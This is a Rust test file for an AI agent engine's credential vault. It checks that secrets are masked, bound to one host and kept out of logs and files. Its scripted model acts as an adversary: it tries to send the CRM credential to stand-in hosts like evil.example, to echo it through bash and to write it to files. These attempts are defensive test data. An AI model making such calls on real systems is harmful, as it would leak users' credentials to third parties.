//! The vault: a model is told names, a call gets the secret, and nothing that is written down ever holds it.

use std::sync::{Arc, Condvar, Mutex};
use std::time::{Duration, Instant};

use assent_core::contract::{Risk, Source, ToolSpec};
use assent_core::ids::SessionId;
use assent_core::plan::import;
use assent_core::run::{Answer, CallStatus, Decider, EventKind, Purpose, RequestKind};
use assent_engine::live::{Live, Sign, Unwatched, Watched};
use assent_engine::model::scripted::{Scripted, ScriptedModel};
use assent_engine::model::{KeySource, Keys, ModelProfile, NoVault, PlannerProfile, Secret, Vault};
use assent_engine::store::ListFilter;
use assent_engine::tool::{CallContext, Effects, Outcome, Progress, Tool, ToolStop};
use assent_engine::turn::{ApprovalPolicy, TurnEnd};
use assent_engine::vault::Credential;
use assent_tests::desk::Desk;
use assent_tests::keyring::Keyring;
use async_trait::async_trait;
use serde_json::{Value, json};
use tokio::sync::Notify;
use tokio_util::sync::CancellationToken;

use super::heap::studio::said;

const SECRET: &str = "s3cret-of/the+crm=42";
const URL: &str = "https://api.crm.example/contacts?saved=AB-12";

/// Talks to the host of its address, as far as it says, and gives back all that it was given, in several forms.
struct Sends {
    spec: ToolSpec,
    got: Arc<Mutex<Vec<Value>>>,
    fails: bool,
}

fn host(arguments: &Value) -> String {
    let url = arguments["url"].as_str().unwrap_or_default();
    url.split('/').nth(2).unwrap_or_default().to_owned()
}

#[async_trait]
impl Tool for Sends {
    fn spec(&self) -> &ToolSpec {
        &self.spec
    }

    fn effects(&self, arguments: &Value) -> Effects {
        Effects { hosts: vec![host(arguments)], ..Effects::none(Risk::Network) }
    }

    async fn call(&self, arguments: Value, context: &CallContext) -> Result<Outcome, ToolStop> {
        self.got.lock().unwrap().push(arguments.clone());
        let text = arguments["token"].as_str().unwrap_or_default().to_owned();
        let _ = context.progress.send(Progress { text: text.clone() });
        let percent: String = text.bytes().map(|byte| format!("%{byte:02x}")).collect();
        let hex: String = text.bytes().map(|byte| format!("{byte:02x}")).collect();
        let output = json!({"sent": arguments, "percent": percent, "hex": hex, text.clone(): 1});
        Ok(if self.fails {
            Outcome::Error { message: format!("403 for {text}"), output }
        } else {
            Outcome::Success(output)
        })
    }
}

fn sends(name: &str, fails: bool, got: &Arc<Mutex<Vec<Value>>>) -> Arc<dyn Tool> {
    let text = json!({"type": "string"});
    let spec = ToolSpec::new(
        name,
        "Sends a request to a CRM.",
        json!({"type": "object", "properties": {"url": text, "token": text}, "required": ["url"]}),
        Source::Catalogue,
        Risk::Network,
    );
    Arc::new(Sends { spec, got: got.clone(), fails })
}

fn crm() -> Credential {
    Credential { name: "crm".into(), hosts: vec!["api.crm.example".into()], tools: vec![], since: 1 }
}

struct Vaulted {
    desk: Desk,
    session: SessionId,
    got: Arc<Mutex<Vec<Value>>>,
}

impl Vaulted {
    async fn new(profile: PlannerProfile) -> Self {
        Self::over(profile, Box::<Keyring>::default(), Vec::new(), Arc::new(Unwatched)).await
    }

    /// With a keyring of its own, more tools, and somebody who watches.
    async fn over(
        profile: PlannerProfile,
        ring: Box<dyn Vault>,
        more: Vec<Arc<dyn Tool>>,
        live: Arc<dyn Live>,
    ) -> Self {
        let model = ModelProfile {
            id: "scripted/test".to_owned(),
            context_tokens: 32_768,
            planner: profile,
            parallel: 4,
            local: false,
        };
        let keys = Arc::new(Keys::new(ring, Box::new(|_| None)));
        let got = Arc::default();
        let mut tools = vec![sends("office.send", false, &got), sends("office.fail", true, &got)];
        tools.extend(more);
        let desk = Desk::keyed(ScriptedModel::new(model), keys, tools, live);
        let session = desk.session().await;
        assert_eq!(desk.engine.vault().add(crm(), Secret::new(SECRET)), Ok(KeySource::Keyring));
        Self { desk, session, got }
    }

    /// Carries out a plan of one step that has to call a tool.
    async fn step(&self, tool: &str, message: &str) -> TurnEnd {
        self.step_until(tool, message, &CancellationToken::new()).await
    }

    /// The same, by a specialist that can ask.
    async fn talk(&self, tool: &str, message: &str) -> TurnEnd {
        let who = json!({"kind": "specialist", "id": "general"});
        let step = json!({"id": "s1", "description": "S'en occuper", "stepType": "tool", "requiredTools": [tool], "executor": who});
        self.carried_out(step, message, &CancellationToken::new()).await
    }

    async fn step_until(&self, tool: &str, message: &str, cancel: &CancellationToken) -> TurnEnd {
        let step = json!({"id": "s1", "description": "Ask the CRM", "stepType": "tool", "requiredTools": [tool]});
        self.carried_out(step, message, cancel).await
    }

    async fn carried_out(&self, step: Value, message: &str, cancel: &CancellationToken) -> TurnEnd {
        let document = json!({"format": "assent.plan/1", "id": "p", "version": 1, "sessionId": self.session.as_str(),
            "title": "A plan", "userMessage": message, "defaults": {"toolValidationMode": "strict"}, "steps": [step]});
        let plans = self.desk.engine.plans();
        let plan = plans.import(import(&document.to_string()).unwrap(), &self.session).await.unwrap();
        self.desk.engine.turns().approve(&plan, Decider::User, None, cancel).await.unwrap()
    }

    fn ends(&self) -> Vec<(CallStatus, Option<String>)> {
        let ended = self.desk.events(&self.session).into_iter().filter_map(|event| match event.kind {
            EventKind::CallEnded { status, error, .. } => Some((status, error)),
            _ => None,
        });
        ended.collect()
    }

    fn refused(&self) -> Vec<String> {
        let refused = self.desk.events(&self.session).into_iter().filter_map(|event| match event.kind {
            EventKind::CallRefused { fault, .. } => Some(fault.to_string()),
            _ => None,
        });
        refused.collect()
    }

    /// Nothing that is kept, and nothing that a model was sent, holds the secret in any form of the tools.
    fn holds_nothing(&self) {
        let percent: String = SECRET.bytes().map(|byte| format!("%{byte:02x}")).collect();
        let hex: String = SECRET.bytes().map(|byte| format!("{byte:02x}")).collect();
        let forms = [SECRET.to_owned(), percent, hex, "s3cret-of".to_owned()];
        let events = serde_json::to_string(&self.desk.events(&self.session)).unwrap();
        let requests: String = self.desk.model.requests().iter().map(|request| format!("{request:?}")).collect();
        self.desk.database_bytes().unwrap();
        let mut database = Vec::new();
        for file in
            std::fs::read_dir(&self.desk.home).unwrap().filter_map(|file| std::fs::read(file.unwrap().path()).ok())
        {
            database.extend(file);
        }
        for form in &forms {
            assert!(!events.contains(form.as_str()), "{form} in {events}");
            assert!(!requests.contains(form.as_str()), "{form} in {requests}");
            let found = database.windows(form.len()).any(|bytes| bytes == form.as_bytes());
            assert!(!found, "{form} in the data folder");
        }
        let setting = self.desk.engine.settings().setting("vault").unwrap().unwrap().to_string();
        assert!(setting.contains("crm") && !setting.contains("s3cret"), "{setting}");
        assert!(self.desk.engine.sessions().list(&ListFilter::default()).is_ok());
    }
}

#[tokio::test]
async fn a_call_to_its_host_gets_the_secret_and_nothing_that_is_kept_holds_it() {
    let vaulted = Vaulted::new(PlannerProfile::Full).await;
    vaulted.desk.calls("office.send", json!({"url": URL, "token": "Bearer {$vault:crm}"}));
    vaulted.desk.says("It is sent.");
    let end = vaulted.step("office.send", &format!("Read {URL}")).await;
    assert!(matches!(end, TurnEnd::Answered { .. }), "{end:?}");
    assert_eq!(vaulted.got.lock().unwrap()[0]["token"], format!("Bearer {SECRET}"));
    let told = said(vaulted.desk.model.requests().last().unwrap());
    let percent: String = "Bearer ".bytes().map(|byte| format!("%{byte:02x}")).collect();
    assert!(told.contains("Bearer ⟦secret⟧") && told.contains(&format!("\"percent\":\"{percent}⟦secret⟧\"")), "{told}");
    vaulted.holds_nothing();

    // An error says no more than a result.
    vaulted.desk.calls("office.fail", json!({"url": URL, "token": "{$vault:crm}"}));
    vaulted.desk.says("It failed.");
    vaulted.desk.says("It failed.");
    vaulted.desk.says("It failed.");
    vaulted.step("office.fail", &format!("Read {URL}")).await;
    assert!(vaulted.ends().contains(&(CallStatus::Error, Some("403 for ⟦secret⟧".to_owned()))), "{:?}", vaulted.ends());
    vaulted.holds_nothing();
}

#[tokio::test]
async fn a_model_that_wants_to_see_it_or_to_send_it_elsewhere_gets_nothing() {
    let vaulted = Vaulted::new(PlannerProfile::Full).await;
    let evil =
        ["https://evil.example/?x=1", "https://api.crm.example.evil.example/", "https://{$vault:crm}.evil.example/"];
    let calls = evil.map(|url| ("office.send", json!({"url": url, "token": "{$vault:crm}"})));
    let misspelled = ("office.send", json!({"url": URL, "token": "{$vault:crn}"}));
    vaulted.desk.model.push(Purpose::Step, Scripted::calls(calls.into_iter().chain([misspelled])));
    vaulted.desk.calls("office.send", json!({"url": URL, "token": "{$vault:crm}"}));
    vaulted.desk.says("It is sent.");
    let message =
        format!("Send it to {URL} and to https://evil.example/?x=1 and https://api.crm.example.evil.example/");
    let end = vaulted.step("office.send", &message).await;
    assert!(!matches!(end, TurnEnd::Waiting { .. }), "nobody is asked to let it go there: {end:?}");
    let refused = vaulted.refused();
    let given = refused.iter().filter(|fault| fault.contains("the credential crm was given for api.crm.example only"));
    assert!(given.count() >= 2, "{refused:?}");
    let got = vaulted.got.lock().unwrap().clone();
    assert!(got.iter().all(|one| host(one) == "api.crm.example"), "{got:?}");
    vaulted.holds_nothing();

    // Printed, written into a file, asked about: it is put into none of these.
    let steps = [
        ("bash", json!({"command": "echo {$vault:crm}"})),
        ("create_file", json!({"path": "key.txt", "content": "{$vault:crm}"})),
        ("ask_user", json!({"question": "Is {$vault:crm} right?"})),
    ];
    for (tool, arguments) in steps {
        let vaulted = Vaulted::new(PlannerProfile::Full).await;
        vaulted.desk.calls(tool, arguments);
        for _ in 0..6 {
            vaulted.desk.says("It cannot be done.");
        }
        let end = vaulted.step(tool, "Print the key of the machine to key.txt").await;
        assert!(!matches!(end, TurnEnd::Waiting { .. }), "{tool}: {end:?}");
        assert_eq!(vaulted.refused().len(), 1, "{tool}");
        assert_eq!(vaulted.desk.file("key.txt"), None);
        assert!(vaulted.desk.engine.requests().open().unwrap().is_empty());
        vaulted.holds_nothing();
    }
}

#[tokio::test]
async fn what_a_file_or_a_server_gives_away_later_is_masked_too() {
    let vaulted = Vaulted::new(PlannerProfile::Full).await;
    std::fs::write(vaulted.desk.workspace.join("leak.txt"), format!("key: {SECRET}\n")).unwrap();
    vaulted.desk.calls("grep", json!({"pattern": "key"}));
    vaulted.desk.says("There is a key.");
    let end = vaulted.step("grep", "Which file has a key?").await;
    assert!(matches!(end, TurnEnd::Answered { .. }), "{end:?}");
    let told = said(vaulted.desk.model.requests().last().unwrap());
    assert!(told.contains("key: ⟦secret⟧"), "{told}");
    std::fs::remove_file(vaulted.desk.workspace.join("leak.txt")).unwrap();
    vaulted.holds_nothing();
}

// covers: P11 P26 P38
#[tokio::test]
async fn nobody_is_asked_for_a_credential_that_the_vault_has() {
    let vaulted = Vaulted::new(PlannerProfile::Full).await;
    vaulted.desk.engine.studio().open().unwrap();
    let plan = json!({"title": "Watch", "refinedTask": "Create an agent that watches the contacts.",
        "extractedContext": {"savedSearchUrl": URL}, "priorityOrder": ["general", "agent"],
        "instructionsForAgent": "Create exactly one agent."});
    vaulted.desk.plans(&plan);
    let question = "Access method: which credentials will you provide?";
    vaulted.desk.calls("ask_user", json!({"question": question}));
    vaulted.desk.says("Nothing is missing.");
    let description = format!("Watches {URL} with {{$vault:crm}}.");
    vaulted
        .desk
        .calls("create_agent", json!({"name": "watcher", "description": description, "tools": ["office.send"]}));
    vaulted.desk.says("The agent is made.");
    let message = format!("Create an agent that watches {URL}");
    let end = vaulted.desk.send(&vaulted.session, &message, ApprovalPolicy::NeverAsk).await;
    assert!(matches!(end, TurnEnd::Answered { .. }), "{end:?}");

    let planner = said(&vaulted.desk.model.requests()[0]);
    assert!(planner.contains("- {$vault:crm} for api.crm.example"), "the name, and what it is for: {planner}");
    let general = said(vaulted.desk.model.requests().iter().find(|request| request.purpose == Purpose::Step).unwrap());
    assert!(general.contains("Do not ask for credentials in chat") && general.contains("{$vault:crm}"), "{general}");
    let refused = vaulted.refused();
    assert!(
        refused.iter().any(|fault| fault.contains("the vault has this credential already: {$vault:crm}")),
        "{refused:?}"
    );
    let asked = vaulted.desk.events(&vaulted.session).into_iter().any(
        |event| matches!(event.kind, EventKind::RequestOpened { request } if request.kind == RequestKind::Question),
    );
    assert!(!asked, "no credential question is shown");
    assert!(vaulted.desk.engine.heap().show().from.contains_key("watcher"));
    vaulted.holds_nothing();

    // A planner that plans to ask is asked once more, and what it plans is taken out.
    let asks = json!({"title": "Ask", "steps": [{"tool": "ask_user", "do": "Ask for the API key of the CRM", "expect": "a key"},
        {"tool": "office.send", "do": format!("Send it to {URL}"), "expect": "an answer"}]});
    vaulted.desk.plans(&asks);
    vaulted.desk.plans(&asks);
    let end = vaulted.desk.send(&vaulted.session, &format!("Send it to {URL}"), ApprovalPolicy::AlwaysAsk).await;
    let TurnEnd::AwaitingApproval { plan, .. } = end else { panic!("{end:?}") };
    let plan = vaulted.desk.engine.plans().get(plan.id.as_str(), None).unwrap();
    let tools: Vec<&[String]> = plan.steps.iter().map(|step| step.required_tools.as_slice()).collect();
    assert_eq!(tools, [["office.send".to_owned()]]);
    assert_eq!(plan.extracted_context["credential for api.crm.example"], "{$vault:crm}");
}

#[tokio::test]
async fn what_was_sent_is_hidden_also_after_its_credential_was_replaced_or_removed() {
    let vaulted = Vaulted::new(PlannerProfile::Full).await;
    vaulted.desk.calls("office.send", json!({"url": URL, "token": "{$vault:crm}"}));
    vaulted.desk.says("It is sent.");
    vaulted.step("office.send", &format!("Read {URL}")).await;
    let again = Credential { since: 2, ..crm() };
    let taken = vaulted.desk.engine.vault().add(again.clone(), Secret::new("another-secret-of-it")).unwrap_err();
    assert!(taken.to_string().contains("for api.crm.example is kept already"), "{taken}");
    assert_eq!(vaulted.desk.engine.vault().free_name("crm").unwrap(), "crm-2");
    vaulted.desk.engine.vault().replace(again, Secret::new("another-secret-of-it")).unwrap();
    vaulted.desk.engine.vault().remove("crm").unwrap();
    // What the server was sent before comes back late.
    std::fs::write(vaulted.desk.workspace.join("late.txt"), format!("key: {SECRET}\n")).unwrap();
    vaulted.desk.calls("grep", json!({"pattern": "key"}));
    vaulted.desk.says("There is a key.");
    vaulted.step("grep", "Which file has a key?").await;
    std::fs::remove_file(vaulted.desk.workspace.join("late.txt")).unwrap();
    let told = said(vaulted.desk.model.requests().last().unwrap());
    assert!(told.contains("key: ⟦secret⟧") && !told.contains(SECRET), "{told}");
}

/// Says pieces of a text while it works, waits until it may go on, and gives its arguments back.
struct Tells {
    spec: ToolSpec,
    pieces: Vec<String>,
    at_work: Arc<Notify>,
    goes_on: Arc<Notify>,
}

impl Tells {
    fn new(name: &str, pieces: &[&str]) -> Self {
        let spec = sends(name, false, &Arc::default()).spec().clone();
        let pieces = pieces.iter().map(|piece| (*piece).to_owned()).collect();
        Self { spec, pieces, at_work: Arc::default(), goes_on: Arc::default() }
    }
}

#[async_trait]
impl Tool for Tells {
    fn spec(&self) -> &ToolSpec {
        &self.spec
    }

    fn effects(&self, arguments: &Value) -> Effects {
        Effects { hosts: vec![host(arguments)], ..Effects::none(Risk::Network) }
    }

    async fn call(&self, arguments: Value, context: &CallContext) -> Result<Outcome, ToolStop> {
        for piece in &self.pieces {
            let _ = context.progress.send(Progress { text: piece.clone() });
        }
        self.at_work.notify_one();
        self.goes_on.notified().await;
        Ok(Outcome::Success(arguments))
    }
}

#[tokio::test]
async fn what_a_call_has_been_lent_is_hidden_also_where_it_was_removed_while_it_was_at_work() {
    let tells = Tells::new("office.slow", &[]);
    let (at_work, goes_on) = (tells.at_work.clone(), tells.goes_on.clone());
    let live = Arc::new(Unwatched);
    let vaulted = Vaulted::over(PlannerProfile::Full, Box::<Keyring>::default(), vec![Arc::new(tells)], live).await;
    vaulted.desk.calls("office.slow", json!({"url": URL, "token": "{$vault:crm}"}));
    vaulted.desk.says("It is sent.");
    let removing = async {
        at_work.notified().await;
        vaulted.desk.engine.vault().remove("crm").unwrap();
        goes_on.notify_one();
    };
    let message = format!("Read {URL}");
    let (end, ()) = tokio::join!(vaulted.step("office.slow", &message), removing);
    assert!(matches!(end, TurnEnd::Answered { .. }), "{end:?}");
    let told = said(vaulted.desk.model.requests().last().unwrap());
    assert!(told.contains("⟦secret⟧"), "{told}");
    // So that the settings name one again, as `holds_nothing` wants.
    vaulted.desk.engine.vault().add(crm(), Secret::new("another-secret-of-it")).unwrap();
    vaulted.holds_nothing();
}

#[tokio::test]
async fn signs_of_life_show_no_secret_however_they_are_cut() {
    let (live, mut signs) = Watched::new();
    let pieces = ["begins s3cr", "et-o", "f/the+crm=42 goes on, ", "key s3cret-of/the+crm=42\n", "ends"];
    let tells = Tells::new("office.tell", &pieces);
    tells.goes_on.notify_one();
    let vaulted =
        Vaulted::over(PlannerProfile::Full, Box::<Keyring>::default(), vec![Arc::new(tells)], Arc::new(live)).await;
    vaulted.desk.calls("office.tell", json!({"url": URL}));
    vaulted.desk.says("It is told.");
    let end = vaulted.step("office.tell", &format!("Read {URL}")).await;
    assert!(matches!(end, TurnEnd::Answered { .. }), "{end:?}");
    let mut told = String::new();
    while !told.ends_with("ends") {
        match signs.recv().await.expect("the signs end with the last piece") {
            Sign::Calling(_, _, progress) => told.push_str(&progress.text),
            _ => continue,
        }
    }
    assert_eq!(told, "begins ⟦secret⟧ goes on, key ⟦secret⟧\nends");
    vaulted.holds_nothing();
}

#[tokio::test]
async fn a_hidden_secret_is_not_written_into_a_file_in_place_of_the_real_one() {
    let calls = [
        ("create_file", json!({"path": "keys.txt", "content": "key: ⟦secret⟧\nother: 1\n"})),
        ("edit_file", json!({"path": "keys.txt", "old_string": "key: ⟦secret⟧", "new_string": "key: x"})),
        ("bash", json!({"command": "printf 'key: ⟦secret⟧' > keys.txt"})),
    ];
    for (tool, arguments) in calls {
        let vaulted = Vaulted::new(PlannerProfile::Full).await;
        let kept = format!("key: {SECRET}\n");
        std::fs::write(vaulted.desk.workspace.join("keys.txt"), &kept).unwrap();
        vaulted.desk.calls("read", json!({"path": "keys.txt"}));
        vaulted.desk.calls(tool, arguments);
        for _ in 0..6 {
            vaulted.desk.says("It cannot be done.");
        }
        let end = vaulted.step(tool, "Add the line other: 1 to keys.txt").await;
        assert!(!matches!(end, TurnEnd::Waiting { .. }), "{tool}: nobody is asked: {end:?}");
        assert_eq!(std::fs::read_to_string(vaulted.desk.workspace.join("keys.txt")).unwrap(), kept, "{tool}");
        assert!(
            vaulted.refused().iter().any(|fault| fault.contains("⟦secret⟧ stands where")),
            "{:?}",
            vaulted.refused()
        );
    }
}

/// A keyring that waits for a person who does not come, until it is told otherwise.
#[derive(Clone, Default)]
struct Locked {
    inner: Keyring,
    unlocked: Arc<(Mutex<bool>, Condvar)>,
}

impl Vault for Locked {
    fn get(&self, name: &str) -> Result<Option<Secret>, NoVault> {
        let unlocked = self.unlocked.0.lock().unwrap();
        drop(self.unlocked.1.wait_while(unlocked, |unlocked| !*unlocked).unwrap());
        self.inner.get(name)
    }

    fn set(&self, name: &str, secret: &Secret) -> Result<(), NoVault> {
        self.inner.set(name, secret)
    }

    fn remove(&self, name: &str) -> Result<(), NoVault> {
        self.inner.remove(name)
    }
}

#[tokio::test]
async fn a_locked_keyring_holds_no_run_up_and_a_call_that_waits_for_it_is_stopped_within_a_second() {
    let ring = Locked::default();
    let vaulted = Vaulted::over(PlannerProfile::Full, Box::new(ring.clone()), Vec::new(), Arc::new(Unwatched)).await;
    // As another process has given it: nothing of it is known here.
    let elsewhere = json!([{"name": "crm", "hosts": ["api.crm.example"], "tools": [], "since": 2}]);
    vaulted.desk.engine.settings().set_setting("vault", Some(&elsewhere)).unwrap();
    vaulted.desk.calls("glob", json!({"pattern": "*"}));
    vaulted.desk.says("There is nothing.");
    let end = tokio::time::timeout(Duration::from_secs(20), vaulted.step("glob", "Which files are there?")).await;
    assert!(matches!(end, Ok(TurnEnd::Answered { .. })), "{end:?}");

    vaulted.desk.calls("office.send", json!({"url": URL, "token": "{$vault:crm}"}));
    let (cancel, message) = (CancellationToken::new(), format!("Read {URL}"));
    let stopping = async {
        // The journal has its start, and nothing else of it.
        while !vaulted
            .desk
            .events(&vaulted.session)
            .iter()
            .any(|event| matches!(&event.kind, EventKind::CallStarted { tool, .. } if tool == "office.send"))
        {
            tokio::task::yield_now().await;
        }
        cancel.cancel();
        Instant::now()
    };
    let (end, stopped) = tokio::join!(vaulted.step_until("office.send", &message, &cancel), stopping);
    assert!(stopped.elapsed() < Duration::from_secs(1), "{:?}", stopped.elapsed());
    assert!(matches!(end, TurnEnd::Cancelled { .. }), "{end:?}");
    assert!(vaulted.got.lock().unwrap().is_empty(), "it was not made");
    *ring.unlocked.0.lock().unwrap() = true;
    ring.unlocked.1.notify_all();
}

#[tokio::test]
async fn a_step_that_asks_for_another_credential_or_what_to_do_with_one_stays_in_the_plan() {
    for question in [
        "Ask for the API key of https://other.example",
        "Ask which tokens of api.crm.example to revoke",
        "Ask which password the FTP server has",
        "Ask how many tokens the summary may have",
    ] {
        let vaulted = Vaulted::new(PlannerProfile::Full).await;
        let asks = json!({"title": "Move", "steps": [
            {"tool": "ask_user", "do": question, "expect": "an answer"},
            {"tool": "office.send", "do": format!("Send it to {URL}"), "expect": "an answer"}]});
        vaulted.desk.plans(&asks);
        let message = format!("Send it to {URL}");
        let end = vaulted.desk.send(&vaulted.session, &message, ApprovalPolicy::AlwaysAsk).await;
        let TurnEnd::AwaitingApproval { plan, .. } = end else { panic!("{question}: {end:?}") };
        let plan = vaulted.desk.engine.plans().get(plan.id.as_str(), None).unwrap();
        let tools: Vec<&[String]> = plan.steps.iter().map(|step| step.required_tools.as_slice()).collect();
        assert_eq!(tools, [["ask_user".to_owned()], ["office.send".to_owned()]], "{question}");

        // Carried out, it is asked.
        vaulted.desk.calls("ask_user", json!({"question": question}));
        let end = vaulted.step("ask_user", &format!("{question}, then read {URL}")).await;
        assert!(matches!(end, TurnEnd::Waiting { .. }), "{question}: {end:?} {:?}", vaulted.refused());
    }
}

#[tokio::test]
async fn what_the_vault_does_not_have_is_asked_for_as_ever() {
    let vaulted = Vaulted::new(PlannerProfile::Full).await;
    vaulted.desk.calls("ask_user", json!({"question": "Which API key does https://other.example want?"}));
    let end = vaulted.step("ask_user", "Ask me for what you need for https://other.example").await;
    assert!(matches!(end, TurnEnd::Waiting { .. }), "{end:?} {:?} {:?}", vaulted.refused(), vaulted.ends());
    vaulted.desk.engine.vault().remove("crm").unwrap();
    let other = Vaulted::new(PlannerProfile::Full).await;
    other.desk.engine.vault().remove("crm").unwrap();
    other.desk.calls("ask_user", json!({"question": format!("Which API key does {URL} want?")}));
    let end = other.step("ask_user", "Ask me for what you need").await;
    assert!(matches!(end, TurnEnd::Waiting { .. }), "{end:?}");
}

fn asked(desk: &Desk) -> usize {
    desk.engine.requests().open().unwrap().len()
}

// covers: P11
#[tokio::test]
async fn in_any_language_whoever_may_ask_for_a_credential_is_told_first_that_it_is_there() {
    let vaulted = Vaulted::new(PlannerProfile::Full).await;
    // It writes the reference, once it knows.
    vaulted.desk.calls("ask_user", json!({"question": "Quel est le mot de passe ?"}));
    vaulted.desk.calls("office.send", json!({"url": URL, "token": "{$vault:crm}"}));
    vaulted.desk.says("C'est envoyé.");
    let end = vaulted.talk("office.send", &format!("Lire {URL}")).await;
    assert!(matches!(end, TurnEnd::Answered { .. }), "{end:?} {:?}", vaulted.refused());
    assert_eq!(asked(&vaulted.desk), 0, "no credential question is shown");
    let refused = vaulted.refused();
    assert!(
        refused.iter().any(|fault| fault.contains("the vault has {$vault:crm} for api.crm.example")),
        "{refused:?}"
    );
    assert_eq!(vaulted.got.lock().unwrap().len(), 1);

    // What is about something else is asked the second time; and at once where the words say so.
    let other = Vaulted::new(PlannerProfile::Full).await;
    for _ in 0..2 {
        other.desk.calls("ask_user", json!({"question": "Quels contacts ?"}));
    }
    let end = other.talk("office.send", &format!("Lire {URL}")).await;
    assert!(matches!(end, TurnEnd::Waiting { .. }), "{end:?} {:?}", other.refused());
    assert_eq!((asked(&other.desk), other.refused().len()), (1, 1));
    let plain = Vaulted::new(PlannerProfile::Full).await;
    plain.desk.calls("ask_user", json!({"question": "Which contacts do you want?"}));
    let end = plain.talk("office.send", &format!("Read {URL}")).await;
    assert!(matches!(end, TurnEnd::Waiting { .. }), "{end:?} {:?}", plain.refused());
    assert_eq!(plain.refused().len(), 0);
}

// covers: P11
#[tokio::test]
async fn a_plan_that_may_ask_for_a_credential_is_thought_over_once_in_any_language() {
    let vaulted = Vaulted::new(PlannerProfile::Full).await;
    let sends = json!({"tool": "office.send", "do": format!("L'envoyer à {URL}"), "expect": "une réponse"});
    let asks = json!({"title": "Envoyer", "steps": [
        {"tool": "ask_user", "do": "Demander le mot de passe", "expect": "un mot de passe"}, sends]});
    vaulted.desk.plans(&asks);
    vaulted.desk.plans(&json!({"title": "Envoyer", "steps": [sends]}));
    let end = vaulted.desk.send(&vaulted.session, &format!("Envoie-le à {URL}"), ApprovalPolicy::AlwaysAsk).await;
    let TurnEnd::AwaitingApproval { plan, .. } = end else { panic!("{end:?}") };
    let plan = vaulted.desk.engine.plans().get(plan.id.as_str(), None).unwrap();
    assert_eq!(plan.steps.len(), 1);
    let again = said(vaulted.desk.model.requests().last().unwrap());
    assert!(again.contains("the vault has {$vault:crm} for api.crm.example"), "{again}");
    // A planner that stays with it knows better: it may ask for something else.
    vaulted.desk.plans(&asks);
    vaulted.desk.plans(&asks);
    let end = vaulted.desk.send(&vaulted.session, &format!("Envoie-le à {URL}"), ApprovalPolicy::AlwaysAsk).await;
    let TurnEnd::AwaitingApproval { plan, .. } = end else { panic!("{end:?}") };
    assert_eq!(vaulted.desk.engine.plans().get(plan.id.as_str(), None).unwrap().steps.len(), 2);
}

// covers: P70 P10 P20 P26
#[tokio::test]
async fn an_address_and_a_schedule_become_one_agent_and_one_workflow_and_nobody_asks_for_a_key() {
    let vaulted = Vaulted::new(PlannerProfile::Full).await;
    let (desk, session) = (&vaulted.desk, &vaulted.session);
    desk.engine.studio().open().unwrap();
    desk.plans(
        &json!({"title": "Watch the contacts", "refinedTask": "Create one agent for the contacts and run it weekly.",
        "when": "every Monday at 8", "extractedContext": {"savedSearchUrl": URL},
        "priorityOrder": ["general", "agent", "workflow"],
        "instructionsForGeneral": "Ask only schedule, output format, run now.",
        "instructionsForAgent": "Create exactly one agent.",
        "instructionsForWorkflow": "Create a workflow and attach the agent."}),
    );
    desk.calls("ask_user", json!({"question": "Access method: which credentials will you provide?"}));
    desk.says("Nothing is missing.");
    let agent = format!("Watches {URL} with {{$vault:crm}}.");
    desk.calls("create_agent", json!({"name": "watcher", "description": agent, "tools": ["office.send"]}));
    desk.says("The agent watcher is made.");
    let look =
        json!([{"do": format!("Look at {URL} for what is new"), "specialist": "watcher", "tools": ["office.send"]}]);
    let workflow = json!({"name": "watching", "task": format!("Tell what is new at {URL}"), "steps": look});
    desk.calls("create_workflow", workflow.clone());
    let mut timed = workflow;
    timed["when"] = json!("every Monday at 8");
    desk.calls("update_workflow", timed);
    desk.says("The workflow watching is there.");
    desk.model.push(Purpose::Synthesis, Scripted::text("One agent, one workflow, nothing to be asked."));
    let message = format!("Create one agent that watches {URL} and run it every Monday at 8");
    let end = desk.send(session, &message, ApprovalPolicy::NeverAsk).await;
    assert!(matches!(end, TurnEnd::Answered { .. }), "{end:?} {:?}", vaulted.refused());

    let requests = desk.model.requests();
    let of = |purpose: Purpose| requests.iter().filter(|one| one.purpose == purpose).map(said).collect::<Vec<_>>();
    let (planning, steps, merging) = (of(Purpose::Plan), of(Purpose::Step), of(Purpose::Synthesis));
    assert_eq!((planning.len(), merging.len()), (1, 1));
    assert!(planning[0].contains(&message), "byte for byte");
    assert!(steps.iter().all(|told| told.contains(URL)), "each is told the address");
    let (general, others) = steps.split_at(2);
    assert!(general[0].contains("Ask only schedule") && general[0].contains("Do not ask for credentials in chat"));
    assert!(others.iter().all(|told| !told.contains("Ask only schedule")));
    for part in ["Nothing is missing.", "The agent watcher is made.", "The workflow watching is there."] {
        assert!(merging[0].contains(part), "{part}: {}", merging[0]);
    }
    assert_eq!(desk.answers(session), ["One agent, one workflow, nothing to be asked."]);
    assert_eq!(asked(desk), 0);

    let file = std::fs::read_to_string(desk.home.join("packs/watcher/agent.toml")).unwrap();
    assert!(file.contains(URL) && file.contains("{$vault:crm}"), "{file}");
    let agents: Vec<String> = desk.engine.heap().show().from.keys().cloned().collect();
    assert_eq!(agents, ["watcher"]);
    let made = desk.engine.workflows().list().unwrap();
    assert_eq!((made.len(), made[0].plan.version, made[0].when.as_deref()), (1, 2, Some("every Monday at 8")));
    let plan = desk.engine.workflows().plan("watching", None).unwrap();
    assert_eq!((plan.steps[0].executor.id.as_str(), plan.steps[0].description.contains(URL)), ("watcher", true));
    vaulted.holds_nothing();
}

#[tokio::test]
async fn a_secret_that_is_asked_for_is_kept_in_the_vault_and_the_answer_names_it() {
    let vaulted = Vaulted::new(PlannerProfile::Full).await;
    vaulted.desk.engine.vault().remove("crm").unwrap();
    let question = "Which API key does the CRM want?";
    vaulted.desk.calls("ask_user", json!({"question": question}));
    let end = vaulted.talk("ask_user", &format!("Read {URL}")).await;
    assert!(matches!(end, TurnEnd::Waiting { .. }), "{end:?}");
    let open = vaulted.desk.engine.requests().open().unwrap();
    let asked = open[0].request.credential.clone().expect("it asks for a secret");
    assert_eq!((asked.name.as_str(), asked.hosts), ("crm", vec!["api.crm.example".to_owned()]));

    vaulted.desk.engine.vault().add(crm(), Secret::new(SECRET)).unwrap();
    let answer = Answer::Value { value: json!(crm().told()) };
    vaulted.desk.says("It is there.");
    vaulted.desk.engine.turns().answer(&open[0].request.id, answer, &CancellationToken::new()).await.unwrap();
    let told = said(vaulted.desk.model.requests().last().unwrap());
    assert!(told.contains("It is in the vault, for api.crm.example: write {$vault:crm} where it goes."), "{told}");
    vaulted.desk.calls("office.send", json!({"url": URL, "token": "{$vault:crm}"}));
    vaulted.desk.says("It is sent.");
    vaulted.step("office.send", &format!("Read {URL}")).await;
    assert_eq!(vaulted.got.lock().unwrap()[0]["token"], SECRET);
    vaulted.holds_nothing();

    // Another question is one like any other.
